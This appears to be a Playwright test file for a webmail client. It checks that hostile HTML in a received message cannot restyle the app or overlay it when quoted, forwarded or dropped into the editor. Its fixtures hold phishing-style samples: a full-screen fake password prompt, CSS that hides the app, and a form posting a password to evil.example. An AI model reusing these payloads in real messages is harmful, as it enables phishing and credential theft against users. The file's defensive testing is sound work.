import type { Page } from "@playwright/test";
import { buildMessage } from "@pismo/mail-harness/seed";
import { expect, test } from "../fixtures/stack";
import { row, signIn } from "../fixtures/mail-ui";

/**
 * A rich-text reply or forward quotes the message (and Edit as new puts it) inside the app's own document (the
 * editor is a contentEditable there, not a sandboxed frame). Whatever the message's HTML
 * carries, it must not restyle or cover the app: its <style> never reaches the document,
 * and its positioned boxes and class names are gone from the quote.
 */
const HOSTILE_HTML =
  `<html><head><style>body{display:none} nav,[role=toolbar]{visibility:hidden}</style></head><body>` +
  `<style>button{opacity:0 !important}</style>` +
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" class="fixed inset-0 z-50">` +
  `Your session expired. Enter your password to continue.</div>` +
  `<p id="quoted-marker" style="color:#c00;font-weight:bold;margin-top:-500px">Citat iz poruke: račun je plaćen.</p>` +
  `</body></html>`;

async function expectAppUntouched(page: Page, dialogName: string) {
  const dialog = page.getByRole("dialog", { name: dialogName });
  const editor = dialog.getByRole("textbox", { name: "Message text" });
  // The quote is there, as text the user can edit...
  await expect(editor).toContainText("Citat iz poruke: račun je plaćen.");
  // ...and the app around it is still visible and usable.
  await expect(dialog.getByRole("button", { name: "Send" })).toBeVisible();
  await dialog.getByRole("button", { name: "Send" }).click({ trial: true });
  await expect(page.getByRole("navigation", { name: "Folders" })).toBeVisible();
  await expect(
    page.getByRole("navigation", { name: "Folders" }).getByRole("button", { name: /^Inbox/ }),
  ).toBeVisible();

  const report = await editor.evaluate((root) => {
    const fromMessage = (css: string) => /display:\s*none|visibility:\s*hidden|opacity:\s*0/.test(css);
    const styleElements = Array.from(document.querySelectorAll("style")).filter((s) =>
      fromMessage(s.textContent ?? ""),
    ).length;
    const inEditor = Array.from(root.querySelectorAll("*"));
    const positioned = inEditor.filter((el) => {
      const position = getComputedStyle(el).position;
      return position === "fixed" || position === "absolute" || position === "sticky";
    }).length;
    const box = root.getBoundingClientRect();
    // Every quoted element stays within the editor's horizontal extent and below its top
    // edge: nothing was pulled over the toolbar or the recipients.
    const escaped = inEditor.filter((el) => {
      const r = el.getBoundingClientRect();
      return r.width > 0 && (r.top < box.top - 1 || r.left < box.left - 1 || r.right > box.right + 1);
    }).length;
    return {
      styleElements,
      styleInEditor: root.querySelectorAll("style").length,
      classOrId: root.querySelectorAll("[class], [id]").length,
      positioned,
      escaped,
      bodyDisplay: getComputedStyle(document.body).display,
      // The message's text appears nowhere in the app but inside the editor.
      quotedTextOutsideEditor: Array.from(document.body.querySelectorAll("*")).filter(
        (el) =>
          !root.contains(el) &&
          Array.from(el.childNodes).some(
            (n) => n.nodeType === Node.TEXT_NODE && (n.textContent ?? "").includes("session expired"),
          ),
      ).length,
    };
  });
  expect(report).toEqual({
    styleElements: 0,
    styleInEditor: 0,
    classOrId: 0,
    positioned: 0,
    escaped: 0,
    bodyDisplay: "block",
    quotedTextOutsideEditor: 0,
  });
}

for (const [mode, dialog] of [
  ["Reply", "Reply"],
  ["Forward", "Forward"],
  // The message itself, not quoted, in a new one: the same editor, the same policy.
  ["Edit as new", "New message"],
] as const) {
  test(`a rich-text ${mode.toLowerCase()} keeps the quoted message's styles out of the app`, async ({
    page,
    stack,
  }) => {
    const user = await stack.newUser("quote");
    await stack.mail.deliver(
      user.email,
      buildMessage({
        from: "attacker@evil.example",
        to: user.email,
        subject: "Quote isolation",
        html: HOSTILE_HTML,
      }),
    );
    await signIn(page, user);
    await row(page, "Quote isolation").click();
    await expect(page.getByRole("article", { name: "Message" })).toContainText("Quote isolation");

    await page.getByRole("button", { name: mode, exact: true }).click();
    await expectAppUntouched(page, dialog);
  });
}

// What goes out is what the editor showed: a forward sent without touching its text once
// carried the original's raw HTML (its <style>, <form> and remote images) under the user's name.
test("a forward sent untouched carries the quote as the editor showed it, not the original's raw HTML", async ({
  page,
  stack,
}) => {
  const user = await stack.newUser("fwdraw");
  await stack.mail.deliver(
    user.email,
    buildMessage({
      from: "attacker@evil.example",
      to: user.email,
      subject: "Faktura",
      html:
        `<style>.note{display:none}</style>` +
        `<form action="https://evil.example/login"><input name="password"></form>` +
        `<img src="https://tracker.example/pixel.gif?id=42">` +
        `<p>Faktura je u prilogu.</p>`,
    }),
  );
  await signIn(page, user);
  await row(page, "Faktura").click();
  await page.getByRole("button", { name: "Forward", exact: true }).click();
  const forward = page.getByRole("dialog", { name: "Forward" });
  await forward.getByLabel("To").fill(user.email);
  await forward.getByRole("button", { name: "Send" }).click();
  await expect(forward).toHaveCount(0);
  await expect(row(page, "Fwd: Faktura")).toBeVisible({ timeout: 15_000 });

  const sent = await stack.mail.doveadm(["fetch", "-u", user.email, "text", "mailbox", "Sent"]);
  const decoded = sent
    .replace(/=\r?\n/g, "")
    .replace(/=([0-9A-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
  expect(decoded).toContain("Faktura je u prilogu.");
  for (const raw of ["<style", "<form", "<input", "evil.example/login", "data-pismo-src"])
    expect(decoded).not.toContain(raw);
  // Its image is forwarded as an image, as in the original (the editor only kept it from loading).
  expect(decoded).toContain('<img src="https://tracker.example/pixel.gif?id=42"');
});

test("HTML dropped into the editor (a selection dragged out of a message) gets the quote's profile", async ({
  page,
  stack,
}) => {
  const user = await stack.newUser("dropped");
  await signIn(page, user);
  await page.getByRole("button", { name: "Compose" }).first().click();
  const editor = page
    .getByRole("dialog", { name: "New message" })
    .getByRole("textbox", { name: "Message text" });
  await editor.click();
  const dataTransfer = await page.evaluateHandle((html) => {
    const dt = new DataTransfer();
    dt.setData("text/html", html);
    dt.setData("text/plain", "Citat iz poruke");
    return dt;
  }, HOSTILE_HTML);
  await editor.dispatchEvent("drop", { dataTransfer });
  await expect(editor).toContainText("Citat iz poruke: račun je plaćen.");
  expect(
    await editor.evaluate((root) => ({
      style: root.querySelectorAll("style").length,
      classOrId: root.querySelectorAll("[class], [id]").length,
      positioned: Array.from(root.querySelectorAll("*")).filter((el) =>
        ["fixed", "absolute", "sticky"].includes(getComputedStyle(el).position),
      ).length,
    })),
  ).toEqual({ style: 0, classOrId: 0, positioned: 0 });
});
